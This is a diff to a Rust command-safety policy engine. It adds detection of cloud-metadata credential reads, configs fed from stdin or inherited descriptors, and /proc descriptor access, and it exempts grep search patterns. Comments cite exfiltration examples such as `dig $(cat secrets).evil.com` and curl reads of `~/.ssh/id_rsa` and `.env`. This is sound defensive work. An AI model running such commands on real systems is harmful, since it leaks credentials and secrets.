@@ -5,6 +5,7 @@ use super::{Engine, NOT_READERS, PRINTERS, has_subscript_substitution, word_down
 use crate::policy::invocation::Invocation;
 use crate::policy::parse::Redirect;
 use crate::policy::paths;
+use crate::policy::paths::metadata;
 use crate::policy::rules;
 use crate::policy::verdict::Verdict;
 
@@ -18,8 +19,12 @@ impl Engine<'_> {
     /// Checks every program gets whatever its rule says: secrets read or printed, downloaded code.
     pub(super) fn argument_checks(&self, inv: &Invocation) -> Verdict {
         let mut verdict = Verdict::SAFE;
+        let patterns = search_patterns(inv);
         if !NOT_READERS.contains(&inv.name) {
-            for word in inv.args {
+            for (index, word) in inv.args.iter().enumerate() {
+                if patterns.contains(&index) {
+                    continue;
+                }
                 let text = word.text.as_str();
                 // `--key=~/.ssh/id_rsa`, `@.env` (curl), `HEAD:.env` (git show).
                 let candidates = [
@@ -67,6 +72,21 @@ impl Engine<'_> {
                 word.text
             )));
         }
+        if let Some(word) = config_from_stdin(inv.args) {
+            verdict = verdict.max(Verdict::medium(format!(
+                "takes an option value from stdin or an inherited descriptor ({}); a config read that way can run programs",
+                word.text
+            )));
+        }
+        let client = is_network_client(inv.name);
+        if let Some(address) = inv.args.iter().find_map(|w| metadata::address_in(&w.text, client)) {
+            let client = client || inv.args.iter().any(|w| w.text.contains("://"));
+            verdict = verdict.max(if client {
+                Verdict::high(format!("reads cloud instance metadata at {address} (can return credentials)"))
+            } else {
+                Verdict::medium(format!("names the cloud metadata address {address}"))
+            });
+        }
         // `dig $(cat secrets).evil.com`: a network address built at run time can carry data out.
         let network = NETWORK_PROGRAMS.contains(&inv.name);
         if let Some(word) = inv.args.iter().find(|w| w.dynamic && (network || w.text.contains("://"))) {
@@ -101,9 +121,19 @@ impl Engine<'_> {
             );
             return;
         }
-        // `>&2`, `2>&1`, `<&3`, `>&-`: duplicating descriptors writes nothing.
+        // `>&2`, `2>&1`, `>&-`: duplicating the standard descriptors writes nothing.
         let is_fd = text == "-" || text.chars().all(|c| c.is_ascii_digit());
         if (op.ends_with('&') || op.starts_with(">&") || op.starts_with("<&")) && is_fd {
+            if !matches!(text, "-" | "0" | "1" | "2") {
+                self.add(
+                    &subject,
+                    &Verdict::medium("uses an inherited file descriptor (it may be a file or a socket)"),
+                );
+            }
+            return;
+        }
+        if let Some(why) = descriptor_path(text) {
+            self.add(&subject, &Verdict::medium(why));
             return;
         }
         if redirect.is_input() {
@@ -112,9 +142,157 @@ impl Engine<'_> {
             }
             return;
         }
-        if matches!(text, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty") || text.starts_with("/dev/fd/") {
+        if matches!(text, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/fd/1" | "/dev/fd/2") {
             return;
         }
         self.add(&subject, &crate::policy::programs::write_target(target, "writes"));
     }
+}
+
+/// Network clients: a metadata address among their arguments is a request to it.
+fn is_network_client(name: &str) -> bool {
+    NETWORK_PROGRAMS.contains(&name)
+        || matches!(
+            name,
+            "curl" | "wget" | "http" | "https" | "xh" | "curlie" | "aria2c" | "lynx" | "w3m" | "links" | "socat"
+        )
+}
+
+/// `/dev/fd/3`, `/proc/self/fd/5`, `/proc/1/fd/1`: a descriptor the shell inherited (a file, a
+/// pipe or a socket opened by whoever started it), or another process's files.
+fn descriptor_path(text: &str) -> Option<&'static str> {
+    let standard = |fd: &str| matches!(fd, "0" | "1" | "2");
+    if let Some(fd) = text.strip_prefix("/dev/fd/") {
+        return (!standard(fd)).then_some("uses an inherited file descriptor (it may be a file or a socket)");
+    }
+    let rest = text.strip_prefix("/proc/")?;
+    let (process, fd) = rest.split_once("/fd/").or_else(|| rest.strip_suffix("/fd").map(|p| (p, "")))?;
+    if matches!(process, "self" | "thread-self") && standard(fd) {
+        return None;
+    }
+    Some("opens a file descriptor through /proc (another process's files, or an inherited one)")
+}
+
+/// `--kubeconfig=/dev/stdin`, `-F /dev/stdin`, `--config <(…)`: a configuration the command line
+/// feeds in where nobody sees it, and configs can name programs to run.
+fn config_from_stdin(args: &[crate::policy::word::Word]) -> Option<&crate::policy::word::Word> {
+    let hidden = |value: &str| {
+        matches!(value, "/dev/stdin" | "/proc/self/fd/0")
+            || value.starts_with("/dev/fd/")
+            || value.starts_with("/proc/self/fd/")
+            || value.starts_with("<(")
+    };
+    args.iter().enumerate().find_map(|(i, word)| {
+        let text = word.text.as_str();
+        let attached = text.starts_with('-') && text.split_once('=').is_some_and(|(_, v)| hidden(v));
+        let after_option = i > 0
+            && args
+                .get(i - 1)
+                .is_some_and(|prev| prev.text.starts_with('-') && prev.text.len() > 1 && !prev.text.contains('='))
+            && hidden(text);
+        (attached || after_option).then_some(word)
+    })
+}
+
+/// Indices of the arguments a search program takes as patterns or file-name globs, not files:
+/// `grep -rn id_rsa .` searches for the text `id_rsa`, it reads no key.
+fn search_patterns(inv: &Invocation) -> Vec<usize> {
+    let grep_like = matches!(inv.name, "grep" | "egrep" | "fgrep" | "zgrep" | "zegrep" | "rg" | "ag" | "ack" | "git");
+    if !grep_like {
+        return Vec::new();
+    }
+    let mut args = inv.args.iter().enumerate().peekable();
+    if inv.name == "git" {
+        // Only `git grep`.
+        let Some((_, sub)) = args.next() else { return Vec::new() };
+        if sub.text != "grep" {
+            return Vec::new();
+        }
+    }
+    // Options whose value is a pattern or a glob (skipped), and options whose value is something else.
+    const PATTERN_VALUE: &[&str] = &[
+        "-e", "--regexp", "-g", "--glob", "--iglob", "--include", "--exclude", "--exclude-dir", "--ignore-dir", "-G",
+        "--file-search-regex",
+    ];
+    const OTHER_VALUE: &[&str] = &[
+        "-f",
+        "--file",
+        "-m",
+        "--max-count",
+        "-A",
+        "-B",
+        "-C",
+        "--after-context",
+        "--before-context",
+        "--context",
+        "-d",
+        "--directories",
+        "-D",
+        "--devices",
+        "--label",
+        "--color",
+        "--colour",
+        "-t",
+        "--type",
+        "-T",
+        "--type-not",
+        "-j",
+        "--threads",
+        "-M",
+        "--max-columns",
+        "--max-depth",
+        "--maxdepth",
+        "-E",
+        "--encoding",
+        "--sort",
+        "--sortr",
+        "--type-add",
+        "-r",
+        "--replace",
+        "--context-separator",
+        "--field-match-separator",
+        "--max-filesize",
+        "--pre-glob",
+        "--path-separator",
+        "--engine",
+        "--binary-files",
+    ];
+    let mut skipped = Vec::new();
+    let mut explicit_pattern = false;
+    let mut first_operand = None;
+    let mut options_done = false;
+    while let Some((index, word)) = args.next() {
+        let text = word.text.as_str();
+        if options_done || !text.starts_with('-') || text == "-" {
+            if first_operand.is_none() {
+                first_operand = Some(index);
+            }
+            continue;
+        }
+        if text == "--" {
+            options_done = true;
+            continue;
+        }
+        let flag = text.split_once('=').map_or(text, |(flag, _)| flag);
+        // rg/ag's `-r` is a replacement, grep's is recursion.
+        let takes_value = |list: &[&str]| list.contains(&flag) && !(flag == "-r" && inv.name.ends_with("grep"));
+        if takes_value(PATTERN_VALUE) {
+            explicit_pattern |= matches!(flag, "-e" | "--regexp");
+            if text.contains('=') || (flag.len() > 2 && !flag.starts_with("--")) {
+                skipped.push(index);
+            } else if let Some((value, _)) = args.next() {
+                skipped.push(value);
+            }
+        } else if text.starts_with("-e") && text.len() > 2 && !text.starts_with("--") {
+            explicit_pattern = true;
+            skipped.push(index);
+        } else if takes_value(OTHER_VALUE) && !text.contains('=') {
+            explicit_pattern |= matches!(flag, "-f" | "--file");
+            args.next();
+        }
+    }
+    if !explicit_pattern && let Some(index) = first_operand {
+        skipped.push(index);
+    }
+    skipped
 }
